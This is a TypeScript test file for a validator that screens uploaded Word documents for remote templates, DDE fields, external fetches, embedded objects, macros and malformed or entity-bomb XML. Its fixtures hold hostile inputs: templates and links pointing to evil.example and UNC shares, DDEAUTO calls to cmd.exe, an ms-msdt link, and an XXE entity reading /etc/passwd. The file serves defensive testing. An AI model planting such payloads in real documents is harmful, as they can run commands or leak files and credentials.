import { expect, test } from 'vitest'
import { type Entry, makeDocx } from '#testing/files/documents.ts'
import { inMemory } from '#testing/files/in-memory.ts'
import { FRAME_BYTES } from './cipher.ts'
import { problemOfDoc, problemOfDocx } from './word.ts'

const W =
  'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'
const OFFICE = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships'

/** A part whose only paragraph contains `content`. */
function part(content: string, name = 'word/header1.xml'): Entry {
  return { name, content: `<?xml version="1.0" encoding="UTF-8"?><w:hdr ${W}><w:p>${content}</w:p></w:hdr>` }
}

function relation(attributes: string): Entry {
  return {
    name: 'word/_rels/settings.xml.rels',
    content: `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" ${attributes}/></Relationships>`,
  }
}

const run = (...pieces: string[]) => pieces.map((piece) => `<w:r>${piece}</w:r>`).join('')
const begin = '<w:fldChar w:fldCharType="begin"/>'
const end = '<w:fldChar w:fldCharType="end"/>'
const says = (text: string) => `<w:instrText xml:space="preserve">${text}</w:instrText>`

test.each<[string, Entry]>([
  [
    'a link to a page',
    relation(`Type="${OFFICE}/hyperlink" Target="https://example.org/me?a=1&amp;b=2" TargetMode="External"`),
  ],
  [
    'a link to an address',
    relation(`Type="${OFFICE}/hyperlink" Target="mailto:amara@example.org" TargetMode="External"`),
  ],
  ['a link without a scheme', relation(`Type="${OFFICE}/hyperlink" Target="www.example.org" TargetMode="External"`)],
  ['a picture of its own', relation(`Type="${OFFICE}/image" Target="media/image1.png"`)],
  ['a link as a field', part(run(begin, says(' HYPERLINK "https://example.org/dde/include" '), end))],
  ['a page number', part(`<w:fldSimple w:instr=" PAGE "/>`)],
  ['long words in a field', part(run(begin, says(` ADDIN ${'x '.repeat(30_000)}`), end).repeat(9))],
  ['a drawing in a value', part(`<v:shape xmlns:v="urn:x" gfxdata="${'x'.repeat(300_000)}"/>`)],
  ['words about it', part(run('<w:t>I wrote DDEAUTO and INCLUDEPICTURE &lt;manuals&gt; &amp; more</w:t>'))],
  [
    'a part in UTF-8 with a byte order mark',
    { name: 'word/notes.xml', content: `\ufeff<?xml version="1.0"?><a>é</a>` },
  ],
])('a Word document with %s may be kept', async (_what, entry) => {
  expect(await problemOfDocx(makeDocx('cv', [entry]))).toBeUndefined()
})

const template = `${OFFICE}/attachedTemplate`

test.each<[string, Entry]>([
  ['a template elsewhere', relation(`Type="${template}" Target="https://evil.example/t.dotm" TargetMode="External"`)],
  ['one behind a >', relation(`Type="${template}" Target="https://evil.example/t.dotm?>" TargetMode="External"`)],
  [
    'one that names a hyperlink',
    relation(`Type="${template}" Target="https://evil.example/?Type='/hyperlink'" TargetMode="External"`),
  ],
  [
    'one with a hyperlink of another name',
    relation(
      `Type="${template}" xmlns:x="urn:x" x:Type="${OFFICE}/hyperlink" Target="https://evil.example" TargetMode="External"`,
    ),
  ],
  [
    'one whose kind ends alike',
    relation(`Type="https://evil.example/hyperlink" Target="https://evil.example/t.dotm" TargetMode="External"`),
  ],
  ['one that calls itself inside', relation(`Type="${template}" Target="https://evil.example/t.dotm"`)],
  ['one on a share', relation(`Type="${template}" Target="\\\\evil\\t.dotm" TargetMode="External"`)],
  ['one spelled in numbers', relation(`Type="${template}" Target="https://evil.example" TargetMode="&#69;xternal"`)],
  ['a link to a file', relation(`Type="${OFFICE}/hyperlink" Target="file://evil/share" TargetMode="External"`)],
  ['a link that runs something', relation(`Type="${OFFICE}/hyperlink" Target="ms-msdt:/id" TargetMode="External"`)],
  ['a picture elsewhere', relation(`Type="${OFFICE}/image" Target="https://evil.example/p.png" TargetMode="External"`)],
  ['DDE in a field', part(run(begin, says('DDEAUTO c:\\\\cmd.exe "/k calc"'), end))],
  ['DDE in pieces', part(run(begin, says('D'), says('DE'), says('AUTO c:\\\\cmd.exe'), end))],
  ['DDE over two paragraphs', part(`${run(begin, says('DDE'))}</w:p><w:p>${run(says('AUTO cmd'), end)}`)],
  ['DDE within a field', part(run(begin, says('IF '), begin, says('ddeauto cmd'), end, says(' = 1'), end))],
  [
    'DDE before a field within its text',
    part(run(begin, '<w:instrText>DDE cmd<w:fldChar w:fldCharType="begin"/></w:instrText>')),
  ],
  ['DDE after what another field says', part(run(begin, begin, says('QUOTE 68'), end, says(' DDE cmd'), end))],
  ['DDE in a simple field', part(`<w:fldSimple w:instr="DDE cmd"/>`)],
  [
    'DDE under another prefix',
    {
      name: 'word/footer1.xml',
      content: `<v:ftr xmlns:v="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><v:instrText>DDE cmd</v:instrText></v:ftr>`,
    },
  ],
  ['DDE between CDATA', part(run(begin, says('<![CDATA[DDE]]>AUTO cmd'), end))],
  ['a picture fetched by a field', part(run(begin, says(' INCLUDEPICTURE "https://evil.example/p.png" \\d'), end))],
  ['a text fetched by a field', part(run(begin, says(' INCLUDETEXT "\\\\\\\\evil\\\\t.docx"'), end))],
  [
    'a picture fetched by a drawing',
    part(`<v:imagedata xmlns:v="urn:schemas-microsoft-com:vml" src="https://evil.example/p.png"/>`),
  ],
  ['a data source', part('<w:mailMerge/>', 'word/settings.xml')],
])('a Word document with %s loads parts from elsewhere (UP06)', async (_what, entry) => {
  expect(await problemOfDocx(makeDocx('cv', [entry]))).toContain('loads parts from elsewhere')
})

const HTML = { name: 'word/afchunk.dat', content: '<html></html>' }
const types = (more: string): Entry => ({
  name: '[Content_Types].xml',
  content: `<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="xml" ContentType="application/xml"/>${more}</Types>`,
})

test.each<[string, Entry[]]>([
  ['a chunk of another kind', [part('<w:altChunk r:id="r1"/>')]],
  ['the relation of one', [relation(`Type="${OFFICE}/aFChunk" Target="afchunk.dat"`), HTML]],
  ['an object', [relation(`Type="${OFFICE}/oleObject" Target="embeddings/thing.dat"`)]],
  ['a web page', [{ name: 'word/chunk.mht', content: 'x' }]],
])('a Word document with %s holds other files (UP06)', async (_what, entries) => {
  expect(await problemOfDocx(makeDocx('cv', entries))).toContain('contains other files')
})

test('a part is parsed by its content type, not by its name', async () => {
  const hidden = { ...part(run(begin, says('DDE cmd'), end)), name: 'word/picture.png' }
  const named = types(
    '<Override PartName="/word/Picture.png" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.header+xml"/>',
  )
  expect(await problemOfDocx(makeDocx('cv', [hidden], named))).toContain('loads parts from elsewhere')
  expect(
    await problemOfDocx(
      makeDocx('cv', [HTML], types('<Override PartName="/word/afchunk.dat" ContentType="text/html"/>')),
    ),
  ).toContain('other files')
  expect(
    await problemOfDocx(
      makeDocx('cv', [], types('<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>')),
    ),
  ).toContain('macros')
})

const laughs = `<!DOCTYPE a [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;">]><a>&b;</a>`

test.each<[string, Entry]>([
  ['an entity that grows', { name: 'word/a.xml', content: laughs }],
  [
    'an entity from a file',
    { name: 'word/a.xml', content: `<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>` },
  ],
  ['an unknown entity', { name: 'word/a.xml', content: '<a>&nbsp;</a>' }],
  ['another encoding', { name: 'word/a.xml', content: `<?xml version="1.0" encoding="UTF-7"?><a>+ADw-</a>` }],
  ['UTF-16', { name: 'word/a.xml', content: Buffer.from('\ufeff<a>x</a>', 'utf16le') }],
  ['what is no XML', { name: 'word/_rels/a.xml.rels', content: '<Relationships><Relationship' }],
  ['a part that is there twice', { name: 'Word/Document.xml', content: '<a/>' }],
  ['a comment without end', { name: 'word/a.xml', content: `<a><!--${'x'.repeat(3_000_000)}--></a>` }],
  ['a value without end', { name: 'word/a.xml', content: `<a b="${'x'.repeat(3_000_000)}"/>` }],
  ['a field without end', part(run(begin, says('x '.repeat(300_000)), end))],
  ['fields within fields without end', part(run(...Array<string>(2).fill(begin + says('x '.repeat(20_000)))))],
  ['elements without end', { name: 'word/a.xml', content: '<a>'.repeat(100_000) }],
])('a Word document with %s cannot be read (UP06)', async (_what, entry) => {
  expect(await problemOfDocx(makeDocx('cv', [entry]))).toContain('could not be read')
})

test('an old Word document with an active field is refused, also across frames', async () => {
  const main = Buffer.from('WordDocument', 'utf16le')
  const problemOf = (...parts: Buffer[]) => problemOfDoc(inMemory(Buffer.concat([main, ...parts])))
  expect(await problemOf(Buffer.from('A CV about DDEAUTO'))).toBeUndefined()
  for (const encoding of ['latin1', 'utf16le'] as const) {
    const field = Buffer.from('\x13 DDEAUTO c:\\cmd.exe \x14', encoding)
    expect(await problemOf(field)).toContain('elsewhere')
    // Across the border of two frames.
    expect(await problemOf(Buffer.alloc(FRAME_BYTES - main.length - 10, 'x'), field)).toContain('elsewhere')
    const apart = Buffer.from(`\x13${' '.repeat(3 * FRAME_BYTES)}DDE c:\\cmd.exe`, encoding)
    expect(await problemOf(apart)).toContain('elsewhere')
  }
  expect(await problemOf(Buffer.alloc(FRAME_BYTES), Buffer.from('_VBA_PROJECT', 'utf16le'))).toContain('macros')
  expect(await problemOfDoc(inMemory(Buffer.from('another compound file')))).toContain('could not be read')
})
